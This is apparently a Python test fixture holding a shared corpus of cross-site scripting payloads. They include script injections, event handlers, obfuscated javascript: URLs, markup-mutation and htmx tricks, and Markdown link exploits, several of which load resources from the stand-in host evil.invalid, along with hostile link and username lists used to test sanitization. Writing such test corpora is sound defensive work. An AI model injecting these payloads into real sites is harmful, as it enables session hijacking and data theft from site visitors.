"""Hostile content for the XSS tests: one corpus, shared by the test-client tests
(portfolio/tests/test_xss.py) and the browser test (e2e/test_xss.py).

Every payload carries a unique marker ("zq07x"), so a test can tell exactly which one
landed where: in an attribute, a URL, a request path or a script that ran. Scripts that
run set `window.__xss` or call alert(); resources point at evil.invalid, a host that
can never resolve, so any request that leaves the live server is a leak.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

EVIL_HOST = "evil.invalid"
MARKER = re.compile(r"zq\d{2}x")


@dataclass(frozen=True)
class Payload:
    marker: str
    text: str
    # What the payload tries: for reading a failure report.
    kind: str

    def __str__(self) -> str:
        return self.marker


# Each entry: (kind, text with {m} standing for the marker). Kept in one list so that a
# new hole, once found, becomes one more line here.
_RAW: list[tuple[str, str]] = [
    # Script elements.
    ("script", "<script>alert('{m}')</script>"),
    ("script src", '<script src="http://evil.invalid/{m}.js"></script>'),
    ("script, mixed case", "<ScRiPt>window.__xss='{m}'</sCrIpT>"),
    ("script split by a nested tag", "<scr<script>ipt>window.__xss='{m}'</scr</script>ipt>"),
    ("script, unclosed", "<script>window.__xss='{m}'"),
    # Event handlers.
    ("img onerror", "<img src=x onerror=\"window.__xss='{m}'\">"),
    ("img onerror, unquoted", "<img src=x:{m} onerror=alert('{m}')>"),
    ("img onerror, unclosed tag", "<img src=x onerror=window.__xss='{m}' "),
    ("svg onload", "<svg onload=\"window.__xss='{m}'\"></svg>"),
    ("svg script", "<svg><script>window.__xss='{m}'</script></svg>"),
    ("svg xlink:href", "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>{m}</text></a></svg>"),
    ("svg animate href", "<svg><animate attributeName=href to=javascript:alert('{m}') />"),
    ("body onload", "<body onload=\"alert('{m}')\">"),
    ("input autofocus onfocus", "<input autofocus onfocus=\"window.__xss='{m}'\">"),
    ("checkbox onclick", '<input type="checkbox" onclick="alert(\'{m}\')" checked>'),
    ("details ontoggle", "<details open ontoggle=\"window.__xss='{m}'\"><summary>{m}</summary>"),
    ("a onmouseover", '<a href="#" onmouseover="window.__xss=\'{m}\'">hover {m}</a>'),
    ("p onclick with style", '<p onclick="alert(\'{m}\')" style="position:fixed;inset:0">{m}</p>'),
    ("video source onerror", "<video><source onerror=\"alert('{m}')\"></video>"),
    ("audio onerror", "<audio src=x onerror=\"window.__xss='{m}'\"></audio>"),
    ("marquee onstart", "<marquee onstart=\"alert('{m}')\">{m}</marquee>"),
    # Dangerous URL schemes in raw HTML.
    ("javascript: href", "<a href=\"javascript:alert('{m}')\">j {m}</a>"),
    ("javascript: mixed case", "<a href=\"JaVaScRiPt:alert('{m}')\">j {m}</a>"),
    ("javascript: entity", "<a href=\"&#106;avascript:alert('{m}')\">j {m}</a>"),
    (
        "javascript: hex entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
        "alert('{m}')\">j {m}</a>",
    ),
    ("javascript: tab inside", "<a href=\"java&#x09;script:alert('{m}')\">j {m}</a>"),
    ("javascript: newline inside", "<a href=\"java\nscript:alert('{m}')\">j {m}</a>"),
    ("javascript: leading space", "<a href=\" javascript:alert('{m}')\">j {m}</a>"),
    ("javascript: control char", "<a href=\"\x01javascript:alert('{m}')\">j {m}</a>"),
    ("javascript: named entity colon", "<a href=\"javascript&colon;alert('{m}')\">j {m}</a>"),
    ("javascript: named entity tab", "<a href=\"jav&Tab;ascript:alert('{m}')\">j {m}</a>"),
    (
        "data: html link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}">d {m}</a>',
    ),
    ("data: svg image", '<img src="data:image/svg+xml,<svg onload=alert(1)>#{m}">'),
    ("vbscript: href", "<a href=\"vbscript:msgbox('{m}')\">v {m}</a>"),
    (
        "form action",
        '<form action="http://evil.invalid/{m}"><input name=q><button>go</button></form>',
    ),
    ("button formaction", "<button formaction=\"javascript:alert('{m}')\">go {m}</button>"),
    # Elements that load, frame or redirect.
    ("iframe javascript:", "<iframe src=\"javascript:alert('{m}')\"></iframe>"),
    (
        "iframe srcdoc",
        "<iframe srcdoc=\"&lt;script&gt;parent.__xss='{m}'&lt;/script&gt;\"></iframe>",
    ),
    ("object", '<object data="http://evil.invalid/{m}.swf"></object>'),
    ("embed", '<embed src="http://evil.invalid/{m}">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil.invalid/{m}">'),
    ("base href", '<base href="http://evil.invalid/{m}/">'),
    ("link stylesheet", '<link rel="stylesheet" href="http://evil.invalid/{m}.css">'),
    ("style element", "<style>@import 'http://evil.invalid/{m}.css';</style>"),
    ("style attribute", '<div style="background:url(http://evil.invalid/{m}.png)">{m}</div>'),
    ("protocol-relative image", '<img src="//evil.invalid/{m}.png" alt="{m}">'),
    ("img srcset", '<img src="/static/img/favicon.svg" srcset="//evil.invalid/{m}.png 2x">'),
    ("http image", '<img src="http://evil.invalid/{m}.png" alt="{m}">'),
    (
        "link target opener",
        '<a href="https://evil.invalid/{m}" target="_blank" rel="opener">{m}</a>',
    ),
    (
        "table cell style",
        '<table><tr><td style="background:url(//evil.invalid/{m}.png);text-align:center">{m}'
        "</td></tr></table>",
    ),
    # Broken and mutating markup.
    ("attribute breakout", "\"><script>alert('{m}')</script>"),
    ("single-quote breakout", "'><img src=x onerror=alert('{m}')>"),
    ("textarea breakout", "</textarea><script>alert('{m}')</script>"),
    ("title breakout", "</title><script>alert('{m}')</script>"),
    ("comment breakout", "--><img src=x onerror=\"window.__xss='{m}'\"><!--"),
    (
        "noscript mutation",
        "<noscript><p title=\"</noscript><img src=x onerror=window.__xss='{m}'>\"></noscript>",
    ),
    (
        "math style mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='{m}'\">",
    ),
    ("template", "<template><img src=x onerror=\"window.__xss='{m}'\"></template>"),
    ("xmp", "<xmp><img src=x onerror=\"window.__xss='{m}'\"></xmp>"),
    # htmx attributes: any that survive would make the page fetch or run code.
    ("hx-get on load", '<div hx-get="/{m}/" hx-trigger="load">{m}</div>'),
    ("hx-post on load", '<button hx-post="/{m}/" hx-trigger="load">{m}</button>'),
    ("hx-on:click", '<a hx-on:click="window.__xss=\'{m}\'" href="#">click {m}</a>'),
    ("hx-on::load", "<div hx-on::load=\"window.__xss='{m}'\">{m}</div>"),
    ("data-hx-get", '<div data-hx-get="/{m}/" data-hx-trigger="load">{m}</div>'),
    ("hx-target body", '<span hx-get="/{m}/" hx-target="body" hx-trigger="mouseover">{m}</span>'),
    # Markdown tricks.
    ("md javascript: link", "[click {m}](javascript:alert('{m}'))"),
    ("md javascript: upper", "[click {m}](JAVASCRIPT:alert('{m}'))"),
    ("md javascript: entity", "[click {m}](javascript&#58;alert('{m}'))"),
    ("md javascript: escaped", "[click {m}](javascript\\:alert\\('{m}'\\))"),
    ("md vbscript: link", "[click {m}](vbscript:msgbox('{m}'))"),
    ("md data: link", "[click {m}](data:text/html;base64,PHNjcmlwdD4=#{m})"),
    ("md data: image", "![img {m}](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#{m})"),
    ("md javascript: image", "![img {m}](javascript:alert('{m}'))"),
    ("md data: png image", "![img {m}](data:image/png;base64,iVBORw0KGgo=#{m})"),
    ("md pointy destination", "[click {m}](<javascript:alert('{m}')>)"),
    ("md entity destination", "[click {m}](&#x6A;avascript:alert('{m}'))"),
    ("md reference link", "[ref {m}][evil]\n\n[evil]: javascript:alert('{m}')"),
    ("md reference image", "![ref {m}][pic]\n\n[pic]: //evil.invalid/{m}.png"),
    ("md autolink javascript:", "<javascript:alert('{m}')>"),
    ("md autolink http", "<http://evil.invalid/{m}>"),
    ("md linkify", "see www.evil.invalid/{m} now"),
    (
        "md title attribute breakout",
        '[t {m}](https://example.com "a\\" onmouseover=alert(\'{m}\') ")',
    ),
    ("md image alt breakout", "![\" onerror=\"alert('{m}')](x)"),
    ("md http image, protocol-relative", "![pic {m}](//evil.invalid/{m}.png)"),
    ("md raw html in list", "- item\n- <img src=x onerror=\"window.__xss='{m}'\">"),
    ("md raw html in table", "| a | b |\n|---|---|\n| <svg onload=alert('{m}')> | {m} |"),
    ("md code fence language", "```\"><script>alert('{m}')</script>\ncode {m}\n```"),
    ("md code fence lang with handler", "```python onload=alert('{m}')\nprint('{m}')\n```"),
    ("md heading with html", "## <img src=x onerror=\"window.__xss='{m}'\"> {m}"),
    ("md task list", "- [x] <a href=\"javascript:alert('{m}')\">done {m}</a>"),
    ("md mention with html", "@lena<script>alert('{m}')</script>"),
    # The search snippet marks matches with \x02 and \x03 before escaping the rest.
    ("search sentinels", "\x02<b>\x03 \x03<img src=x onerror=alert('{m}')>\x02 {m}"),
    ("md anchor clobbering", '<a id="main" name="{m}" class="anchor" href="#md-x">{m}</a>'),
]

PAYLOADS: list[Payload] = [
    Payload(marker=f"zq{n:02d}x", text=text.replace("{m}", f"zq{n:02d}x"), kind=kind)
    for n, (kind, text) in enumerate(_RAW)
]
assert len({p.marker for p in PAYLOADS}) == len(PAYLOADS) < 99


def fitting(limit: int) -> list[Payload]:
    """The payloads short enough for a field of `limit` characters."""
    return [p for p in PAYLOADS if len(p.text) <= limit]


def one_line(payload: Payload) -> str:
    """The payload as a single-line field stores it (newlines folded to spaces)."""
    return " ".join(payload.text.split())


def by_marker(marker: str) -> Payload:
    return next(p for p in PAYLOADS if p.marker == marker)


def pack(payloads, limit: int, *, sep: str = " ", multiline: bool = False) -> list[str]:
    """As few values of at most `limit` characters as hold every payload that fits."""
    values: list[str] = []
    current = ""
    for payload in payloads:
        text = payload.text.strip() if multiline else one_line(payload)
        if len(text) > limit:
            continue
        candidate = f"{current}{sep}{text}" if current else text
        if len(candidate) > limit:
            values.append(current)
            current = text
        else:
            current = candidate
    if current:
        values.append(current)
    return values


# Profile links are checked by URL, not sanitized: some of these must be refused, and
# whatever is accepted must stay an http(s) link. Marker zq99x is kept for these lists.
HOSTILE_LINKS = [
    "javascript:alert('zq99x')",
    "JaVaScRiPt:alert('zq99x')",
    " javascript:alert('zq99x')",
    "javascript://evil.invalid/%0aalert('zq99x')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox('zq99x')",
    "//evil.invalid/zq99x",
    "evil.invalid/zq99x",
    "https://evil.invalid/\"><script>alert('zq99x')</script>",
    "https://evil.invalid/'onmouseover='alert(1)'zq99x",
    "https://evil.invalid/<svg/onload=alert('zq99x')>",
    'https://evil.invalid/x" hx-get="/zq99x/" hx-trigger="load',
    'http://evil.invalid/zq99x#"><img src=x onerror=alert(1)>',
]
HOSTILE_USERNAMES = [
    *(one_line(p) for p in fitting(30)),
    "<svg/onload=alert(1)>zq99x",
    "javascript:alert(1)",
    'a"onmouseover="x',
    "zq99x/../admin",
    "lena<b>",
    "-zq99x-",
]
# Valid handles that merely look like markup words: accepted, and only ever text.
ODD_USERNAMES = ["hx-get", "data-hx-post", "onerror", "script"]
